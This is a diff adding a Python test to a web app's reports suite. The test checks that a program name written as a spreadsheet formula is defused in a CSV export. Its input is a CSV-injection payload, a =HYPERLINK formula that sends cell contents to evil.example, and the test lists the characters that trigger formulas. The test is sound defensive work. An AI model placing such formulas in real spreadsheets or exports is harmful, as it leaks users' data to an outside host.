@@ -101,3 +101,17 @@ def test_the_csv_names_its_organization_section_and_dates(client, figures):
         f'attachment; filename="{figures.network.site.slug}-weekly-2026-02-02-2026-02-22.csv"')
     assert csv_rows(response) == [["Week starting", "Sent", "Received"], ["2026-02-02", "2", "0"],
                                   ["2026-02-09", "2", "0"], ["2026-02-16", "5", "0"]]
+
+
+def test_a_name_that_looks_like_a_formula_is_defused_in_the_csv(client, figures):
+    from programs.models import Program
+
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Pantry")'
+    Program.objects_across_tenants.filter(pk=figures.network.program.pk).update(name=formula)
+    client.force_login(figures.network.site_admin)
+    rows = csv_rows(client.get("/reports/outbound-by-program.csv", PERIOD))
+    names = [row[0] for row in rows[1:]]
+    assert "'" + formula in names
+    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
+    # The page shows the name as it is (HTML does not run formulas).
+    assert formula in [row[0] for row in page_tables(client.get("/reports/", PERIOD))["outbound-by-program"]]
